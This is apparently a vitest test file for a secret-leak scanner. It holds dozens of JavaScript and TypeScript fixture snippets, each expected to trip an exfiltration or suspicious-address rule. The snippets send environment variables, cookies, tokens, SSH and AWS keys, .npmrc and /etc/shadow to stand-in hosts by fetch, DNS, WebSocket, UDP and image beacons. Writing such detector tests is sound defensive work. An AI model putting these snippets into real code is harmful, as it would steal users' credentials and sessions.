import { describe, expect, it } from "vitest";
import { rulesFound } from "../check-world.ts";

/** The rule, the file, and what is in it. */
const HIDDEN: readonly (readonly [string, string, string])[] = [
  [
    "js-exfiltration",
    "src/case.js",
    "import https from 'node:https';\nconst r = https.request({ host: 'x.example', method: 'POST' });\nr.write(JSON.stringify(process.env));\nr.end();",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const axios = require('axios');\naxios.post('https://c2.example', Object.entries(process.env));",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import fs from 'fs';\nimport os from 'os';\nconst k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://x.example', { method: 'POST', body: k });",
  ],
  ["js-exfiltration", "src/case.js", "navigator.sendBeacon('/x', localStorage.getItem('token'));"],
  [
    "js-exfiltration",
    "src/case.js",
    "import dns from 'dns';\ndns.resolveTxt(`${process.env.API_KEY}.evil.example`, () => {});",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const ws = new WebSocket('wss://x.example');\nws.onopen = () => ws.send(JSON.stringify(process.env));",
  ],
  ["js-exfiltration", "src/case.js", "fetch('http://45.77.12.9/c?d=' + btoa(JSON.stringify(process.env)));"],
  [
    "js-exfiltration",
    "src/case.js",
    "const xhr = new XMLHttpRequest();\nxhr.open('POST', 'https://evil.example');\nxhr.send(document.cookie);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import { promises as f } from 'fs';\nconst t = await f.readFile('/etc/passwd', 'utf8');\nawait fetch('https://x.example/?' + t);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "fetch(`https://evil.example/?k=${process.env.AWS_SECRET_ACCESS_KEY}`);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import { connect } from 'node:tls';\nconnect(443, '198.51.100.3').write(Object.values(process.env).join());",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import dgram from 'dgram';\ndgram.createSocket('udp4').send(Buffer.from(JSON.stringify(process.env)), 53, '198.51.100.9');",
  ],
  ["js-exfiltration", "src/case.js", "location = 'https://evil.example/?' + document.cookie;"],
  [
    "js-suspicious-address",
    "src/case.js",
    "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body: report });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const payload = Buffer.from(JSON.stringify({ ...process.env })).toString('base64');\nfetch('https://example.net/?' + payload);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import os from 'os';\nfetch('https://stats.example', { method: 'POST', body: JSON.stringify({ u: os.userInfo(), h: os.hostname() }) });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const data = JSON.stringify(process.env);\nawait fetch('https://x.example', { method: 'POST', body: data });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const { env } = process;\nfetch('https://x.example/?' + new URLSearchParams(env));",
  ],
  [
    "js-exfiltration",
    "src/case.ts",
    "import { env } from 'node:process';\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(env) });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const http = require('http');\nhttp.get('http://x.example/?t=' + process.env.GITHUB_TOKEN);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const { request } = require('undici');\nrequest('https://x.example', { method: 'POST', body: JSON.stringify(process.env) });",
  ],
  [
    "js-exfiltration",
    "src/case.ts",
    "import got from 'got';\nawait got.post('https://x.example', { json: { ...process.env } });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const s = require('net').connect(9001, 'x.example');\ns.end(JSON.stringify(process.env));",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const fs = require('fs');\nconst key = fs.readFileSync(process.env.HOME + '/.aws/credentials');\nrequire('https').request('https://x.example', { method: 'POST' }).end(key);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "document.querySelector('img').src = `https://x.example/${document.cookie}`;",
  ],
  ["js-exfiltration", "src/case.js", "fetch('/log', { method: 'POST', body: document.cookie });"],
  [
    "js-exfiltration",
    "src/case.js",
    "window.location = 'https://x.example/?c=' + encodeURIComponent(document.cookie);",
  ],
  ["js-exfiltration", "src/case.js", "new WebSocket('wss://x.example').send(localStorage.getItem('jwt'));"],
  ["js-exfiltration", "src/case.js", "window.open('https://x.example/?' + document.cookie);"],
  ["js-exfiltration", "src/case.js", "navigator.sendBeacon('https://x.example', document.cookie);"],
  [
    "js-suspicious-address",
    "src/case.js",
    "fetch('https://requestbin.net/r/abc', { method: 'POST', body: x });",
  ],
  [
    "js-suspicious-address",
    "src/case.js",
    "await fetch(`https://api.telegram.org/bot${t}/sendMessage?text=${x}`);",
  ],
  ["js-suspicious-address", "src/case.js", "fetch('http://185.220.101.4:8080/x');"],
  [
    "js-suspicious-address",
    "src/case.js",
    "const host = ['web', 'hook.site'].join('');\nfetch('https://' + host + '/x', { method: 'POST', body: x });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "require('dns').resolve4(process.env.NPM_TOKEN + '.x.example', () => {});",
  ],
  [
    "js-exfiltration",
    "src/case.ts",
    "import { Resolver } from 'node:dns';\nnew Resolver().resolveTxt(process.env.SECRET + '.x.example', cb);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const e = Object.fromEntries(Object.entries(process.env));\naxios.post(u, e);",
  ],
  ["js-exfiltration", "src/case.js", "fetch(u, { headers: { 'x-env': JSON.stringify(process.env) } });"],
  [
    "js-exfiltration",
    "src/case.js",
    "for (const [k, v] of Object.entries(process.env)) fetch(`https://x.example/?${k}=${v}`);",
  ],
  [
    "js-exfiltration",
    "src/case.ts",
    "import { readFile } from 'node:fs/promises';\nconst d = await readFile('.env', 'utf8');\nawait fetch('https://x.example', { method: 'POST', body: d });",
  ],
  [
    "js-suspicious-address",
    "src/case.js",
    "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const sock = require('dgram').createSocket('udp4');\nsock.send(process.env.TOKEN, 53, 'x.example');",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "require('https').get({ host: 'x.example', path: '/' + Buffer.from(JSON.stringify(process.env)).toString('hex') });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "form.action = 'https://x.example/?' + document.cookie;\nform.submit();",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const i = document.createElement('img');\ni.setAttribute('src', 'https://x.example/?' + document.cookie);",
  ],
  [
    "js-exfiltration",
    "src/case.ts",
    "import nodemailer from 'nodemailer';\nnodemailer.createTransport(o).sendMail({ text: JSON.stringify(process.env) });",
  ],
  ["js-exfiltration", "src/case.js", "const { cookie } = document;\nfetch('https://x.example/?' + cookie);"],
  [
    "js-exfiltration",
    "src/case.js",
    "fetch('https://x.example', { method: 'POST', body: new URLSearchParams(process.env) });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const snapshot = structuredClone(process.env);\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(snapshot) });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const secrets = ['A_TOKEN', 'B_KEY'].map((k) => process.env[k]);\nfetch('https://x.example/' + secrets.join());",
  ],
  [
    "js-exfiltration",
    "src/case.ts",
    "import { env } from 'process';\nimport http from 'http';\nhttp.request({ host: 'x.example', method: 'PUT' }).end(JSON.stringify(env));",
  ],
  ["js-exfiltration", "src/case.js", "const es = new EventSource('https://x.example/?' + document.cookie);"],
  [
    "js-exfiltration",
    "src/case.ts",
    "import { request } from 'node:https';\nconst r = request('https://x.example');\nr.write(process.env.NPM_TOKEN);",
  ],
  [
    "js-exfiltration",
    "src/case.ts",
    "import dns from 'node:dns/promises';\nawait dns.resolve(`${Buffer.from(process.env.SECRET).toString('hex')}.x.example`);",
  ],
  [
    "js-exfiltration",
    "src/case.ts",
    "import fs from 'node:fs';\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync('/etc/shadow') });",
  ],
  [
    "js-exfiltration",
    "src/case.ts",
    "import fs from 'node:fs';\nconst k = fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');\nfetch('https://x.example', { method: 'POST', body: k });",
  ],
  ["js-exfiltration", "src/case.js", "new Image().src = '//x.example/?' + localStorage.token;"],
  [
    "js-exfiltration",
    "src/case.js",
    "document.createElement('img').src = 'https://x.example/?' + document.cookie;",
  ],
  ["js-suspicious-address", "src/case.js", "fetch('https://abc.ngrok.io/', { method: 'POST', body });"],
  ["js-suspicious-address", "src/case.js", "fetch('http://0x2d4d0c09/');"],
  [
    "js-exfiltration",
    "src/case.ts",
    "import ws from 'ws';\nnew ws('ws://198.51.100.7:1337').on('open', function () { this.send(JSON.stringify(process.env)); });",
  ],
  ["js-suspicious-address", "src/case.ts", "Bun.connect({ hostname: '198.51.100.7', port: 1 });"],
  [
    "js-exfiltration",
    "src/case.js",
    "document.body.style.backgroundImage = `url(https://x.example/?${document.cookie})`;",
  ],
  ["js-exfiltration", "src/case.js", "top.location.href = 'https://x.example/?' + document.cookie;"],
];

describe("JavaScript and TypeScript", () => {
  it.each(HIDDEN)("%s is seen where secrets leave: %s: %s", async (rule, path, code) => {
    expect(await rulesFound({}, { [path]: code })).toContain(rule);
  });
});
